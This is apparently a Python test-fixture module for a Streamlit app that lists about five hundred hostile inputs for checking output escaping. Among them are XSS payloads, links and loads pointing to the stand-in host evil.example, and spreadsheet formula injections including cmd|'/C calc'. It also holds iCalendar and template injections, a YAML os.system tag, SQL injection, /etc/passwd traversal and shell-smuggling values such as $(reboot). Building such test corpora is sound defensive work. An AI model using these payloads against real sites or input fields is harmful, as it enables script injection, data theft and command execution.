"""Five hundred texts that would act if one of our escapers slept: classics and whole families.

A script that runs calls ``tripped()``; whatever is fetched or linked names ``HOST``. Each text
fits the shortest field of a workshop.
"""

from itertools import product

HOST = "evil.example"

SCRIPTS = [
    "<script>tripped()</script>", "</script><script>tripped()</script>", "<SCRIPT>tripped()//",
    "<script src=//evil.example/x.js></script>", "<<script>tripped()//<</script>",
    "<scr<script>ipt>tripped()</scr</script>ipt>", "<script\n>tripped()</script\n>",
    "<script>//\n tripped()\n</script>", '"><script>tripped()</script>', "'><script>tripped()",
    "</title><script>tripped()</script>", "</style><script>tripped()</script>",
    "</textarea><script>tripped()</script>", "--><script>tripped()</script>",
    "]]><script>tripped()</script>", "</main></body></html><script>tripped()</script>",
    "<svg><script>tripped()</script></svg>", "<svg><script xlink:href=//evil.example/x></script>",
    "<math><mtext><script>tripped()</script></mtext></math>", "<svg/onload=tripped()>",
    "<svg><animate onbegin=tripped() attributeName=x dur=1s>",
    "<svg><style>@import'//evil.example'",
    "<svg><foreignObject><img src=x onerror=tripped()></foreignObject></svg>",
    "<svg><use href=//evil.example/a.svg#x></svg>", "<svg><image href=//evil.example/a.png></svg>",
    "<svg><a xlink:href=javascript:tripped()><text y=9>x</text></a></svg>",
    "<math href=javascript:tripped()>x</math>", "<iframe src=javascript:tripped()></iframe>",
    "<iframe srcdoc='<script>parent.tripped()</script>'>", "<iframe src=//evil.example>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}",
    "<p style=background:url(//evil.example/x)>x",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<base href=//evil.example/>", "<form action=//evil.example><button>x</button></form>",
    "<a href=javascript:tripped()>x</a>", "<a href=//evil.example>x</a>",
    "<a ping=//evil.example href=#>x",
    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x 1x'>",
    "<image src=//evil.example/x>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<audio src=//evil.example/x autoplay>",
    "<video poster=//evil.example/x></video>", "<input type=image src=//evil.example/x>",
    "<table background=//evil.example/x><tr><td>x</table>", "<body background=//evil.example/x>",
    "<template><script>tripped()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=tripped()>'>",
    "<xmp><p title='</xmp><img src=x onerror=tripped()>'>",
    "<listing><img src=x onerror=tripped()></listing>",
    "<select><option><img src=x onerror=tripped()></select>", "<portal src=//evil.example>",
    "<frameset onload=tripped()>", "<isindex type=image src=1 onerror=tripped()>",
    "<IMG SRC=x oNeRrOr=tripped()>", "<img/src=x/onerror=tripped()>",
    "<img src=x onerror\x0d=tripped()>",
    "<img src='x' onerror='tripped()'", '<img src="x" onerror="tripped()" ',
    "<p/onclick=tripped()>x",
    "javascript:tripped()", "JaVaScRiPt:tripped()", "data:text/html,<script>tripped()</script>",
    '" onfocus=tripped() autofocus x="', "' onfocus=tripped() autofocus x='",
    "` onfocus=tripped() `",
    "\\u003cscript\\u003etripped()\\u003c/script\\u003e", "\\x3cscript\\x3etripped()",
    "%3Cscript%3Etripped()",
    "&lt;script&gt;tripped()&lt;/script&gt;", "&#60;script&#62;tripped()",
    "&#x3c;img src=x onerror=tripped()&#x3e;",
    "&amp;lt;script&amp;gt;", "＜script＞tripped()＜/script＞", "‹script›tripped()",
    "<ſcript>tripped()</ſcript>",
    "constructor", "__proto__", "toString", "prototype[x]=1", "undefined", "null", "NaN", "0",
    "false",
]  # fmt: skip
EVENTS = [
    f"<{tag} {event}=tripped()>x"
    for tag, event in product(
        ("img src=x", "svg", "p", "input autofocus", "details open", "b style=x", "a href=#"),
        ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onanimationstart", "onwheel"),
    )
]  # fmt: skip
SCHEMES = [
    "http://evil.example/", "https://evil.example/x.png", "//evil.example/x",
    "javascript:tripped()",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "file:///etc/passwd",
    "mailto:a@evil.example",
    "www.evil.example", "JAVASCRIPT&colon;tripped()", "java\tscript:tripped()",
    "x' onerror='tripped()",
]  # fmt: skip
LINKS = [
    form.format(to, to)
    for form, to in product(
        ("![x]({})", "[x]({})", "<{}>", "[x]: {}", "[![x]({})]({})", "![][y]\n\n[y]: {}", "{}"),
        SCHEMES
    )
]  # fmt: skip
MARKDOWN = [
    "# Titel", "#Titel", "## ", "###### sechs", "Titel\n===", "Titel\n---", "---", "***", "_ _ _",
    "* * *", "- - -",
    "> Zitat", ">Zitat", ">>> tief", "- Punkt\n- Punkt", "* Punkt", "+ Punkt", "1. eins\n2. zwei",
    "1) eins", "0. null",
    "    Code", "\tCode", "```\nCode\n```", "~~~\nCode", "~~~", "`Code`", "``Code` ``",
    "|a|b|\n|-|-|\n|1|2|", "|", "||",
    "|---|---|", ":--", "--:", ":-:", "a | b", "-|-", "**fett**", "**fett", "__fett__",
    "*schräg* _schräg_", "***beides***",
    "~~weg~~", "~weg~", "^hoch^", "==mark==", "++neu++", "[ ] Aufgabe", "- [x] Aufgabe", "[^1]",
    "[^1]: Fußnote", "[x]", "[x][]",
    "[x][y]", "![x]", "![]()", "[]()", "[a](b \"c\")", "[a](<b>)", "*[HTML]: Kürzel", "HTML",
    ": Definition", "Wort\n: Definition",
    "{: .x #id }", "{#id}", "{.x onclick=tripped()}", "[TOC]", "[[Wiki]]", "\\", "\\\\",
    "\\# \\* \\\\", "\\[x\\]", "Ende\\", "Zeile  \nzwei",
    "Zeile\\\nzwei", "a\r\nb", "a\rb", "* a *", "*a", "a*", "_", "__", "*", "**", "`", "``", "```",
    "``` js", "[", "]", "(", "![", "[](", "<", ">", "&",
    "!", "#", "+", "-", "=", "~", "1.", "1)", "&copy;", "&nbsp;", "&#35; Titel", "&#x2a;x&#x2a;",
    "&lt;b&gt;", "&amp;amp;", "&;", "&#;", "&#0;",
    "<!-- weg -->", "<!-- weg", "-->", "<!>", "<!DOCTYPE x>", "<![CDATA[x]]>",
    "<?php tripped() ?>", "<?xml?>", "<b>", "</b>", "<b/>", "<br>",
    "</li></ul><h1>neu</h1>", "</td></tr></table>", "</p>", "</div></div>", "<h1>", "<hr>",
    "<pre>", "<details><summary>x", "<1>", "<->", "< b >",
    "a@evil.example", "ftp://evil.example", "https://evil.example?a=1&b=2", "WWW.evil.example/x",
    "xmpp:a@evil.example", "http://[::1]/",
]  # fmt: skip
STREAMLIT = [
    ":material/home:", ":material_home:", ":material/delete: Alles löschen", ":streamlit:",
    ":smile:", ":+1:", ":-1:", "::smile::",
    ":red[rot]", ":blue-background[x]", ":rainbow[x]", ":primary[x]", ":small[x]", ":red-badge[x]",
    ":orange-badge[:material/warning: x]",
    ":red[:blue[x]]", ":red[![x](http://evil.example/a)]", ":color[x]{foreground=red}", ":red",
    "::red[x]", ":::red\nx\n:::", ":x[y]{onclick=tripped()}",
    "12:30 bis 13:00", "a:b:c", "->", "<-", "<->", "--", ">=", "<=", "~=", "a -> b",
    "a <-> b -- c", ":shortcut[Ctrl]", ":help[x]", ":tooltip[x]{text=y}",
    ":image[x]{src=http://evil.example}", ":link[x]{href=http://evil.example}", ":icon[x]",
    ":emoji:", "::", ":", ":a:", ":1:",
]  # fmt: skip
FORMULAS = [
    f"{sign}{said}"
    for sign, said in product(
        ("=", "+", "-", "@", "\t=", "＝", " ='", "'="),
        ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("//evil.example")', "SUM(1;2)", "IMPORTXML(x,y)"),
    )
]  # fmt: skip
QUOTES = [
    '"', '""', '"x";"y"', "x;y;z", "x,y,z", 'x";=1+1;"', "x\n=1+1", '"\n"=1+1', "x\ty", "'", "''",
    "sep=;", "\ufeff=1", "x\r\n@y",
    "END:VEVENT", "x\nEND:VEVENT\nEND:VCALENDAR", "x\r\nBEGIN:VALARM\r\nACTION:AUDIO",
    "x\\nATTACH:http://evil.example", "\\,\\;\\n",
    "x\u2028END:VEVENT", "x\u2029END:VEVENT", "x\x85END:VEVENT", "SUMMARY:x",
    "x\n DTSTART:20200101", "DTSTART;VALUE=DATE:20200101",
    "x;ALTREP=\"http://evil.example\":y", "x\\", "x:y;z,w", "ORGANIZER:mailto:a@evil.example",
    "RRULE:FREQ=SECONDLY", "\r\n\r\n", "x\n\ny",
]  # fmt: skip
OTHER_LANGUAGES = [
    "{{7*7}}", "{{config}}", "{% raw %}", "{# weg #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{time}",
    "{0}", "{}", "{title}", "{{", "}}", "%s", "%(x)s",
    "%n%n%n", "{0.__class__}", "{x!r:>99}", "$x", "$x$", "$$x$$",
    "$\\href{javascript:tripped()}{x}$", "$\\includegraphics{http://evil.example/a}$",
    "\\(x\\)", "\\[x\\]", "\\begin{align}x\\end{align}", "\\url{http://evil.example}",
    "\\unicode{x41}", "5 $ und 6 $", "```mermaid\ngraph TD; A-->B\n```",
    "graph TD; A[<img src=x onerror=tripped()>]", "click A href \"javascript:tripped()\"",
    "%%{init:{'securityLevel':'loose'}}%%", "---\ntitle: x\n---",
    "!!python/object/apply:os.system [x]", "&a [*a]", "*a", "? x", "- : -", "yes", "~", "1e999",
    "0x10", "2026-11-22", "<<: *x", "| x", "> x", "%YAML 1.1",
    '{"a":1}', '"}],"rules":[]}', "\\u0000", "\\ud800", "</script>{\"a\":1}",
    "<a href='javascript:tripped()'>x</a>", "<a href=\"http://evil.example\">x</a>",
    "<b>x</b><br><i>y</i>", "<sub>x</sub><sup>y</sup>", "<span style='color:red'>x</span>",
    "<em>x</em><br/>", "<extra></extra>", "%{x}", "%{customdata}",
    "%{text}<extra>x</extra>", "x<br>y", "<a target=_top href=http://evil.example>x</a>",
    "&lt;a href=x&gt;", "'; DROP TABLE record; --", "' OR 1=1 --", "../../etc/passwd", "$(reboot)",
    "`reboot`", "; reboot", "| reboot", "C:\\Daten\\neu", "\\\\server\\x",
    "Grenze: Limit: x", "Limit:", "Grenze:", "[zu bestätigen]", "[to be confirmed]", "Noch offen.",
]  # fmt: skip
SIGNS = [
    "🥨👩\u200d👩\u200d👧", "🇦🇹🇩🇪🇨🇭", "ja 👍🏽", "\u202eعربي", "\u202etxt.exe", "\u2066x\u2069",
    "مرحبا بالعالم", "שלום", "x\u200by", "\u200b", "\u200c\u200d", "\ufeffx",
    "x\u00ady", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴͍l̲g̡o", "ﷺ", "𝕬𝖇𝖈", "𒐫𒐫𒐫", "\u3164", "\u115f", "x\u2060y",
    "\u00a0x\u00a0", "a\u2028b", "a\u2029b", "a\x85b", "\x7f", "\x80\x9f", "\ue000",
    "\ufffe\uffff",
    "\U0010ffff", "\ufffd", "ß ẞ ŉ ǰ İ ı", "ﬁ ﬀ", "…", "x" * 120, "ä" * 120, "🥨" * 60, "a " * 60,
    "[" * 120, "*a " * 40, "![[" * 40, "<b" * 60, "&" * 120, "\\" * 120,
    "`" * 119, "_" * 120, "(" * 120, "> " * 60, "- " * 60, ":a" * 60, "$" * 119, "~" * 120,
    "#" * 120, "|" * 120, "<" * 120, "&#" * 60, "](" * 60, "**a" * 40,
]  # fmt: skip

TEXTS = tuple(
    dict.fromkeys(
        text.strip()
        for family in (
            SCRIPTS, EVENTS, LINKS, MARKDOWN, STREAMLIT, FORMULAS, QUOTES, OTHER_LANGUAGES, SIGNS,
        )
        for text in family
        if text.strip()
    )
)  # fmt: skip
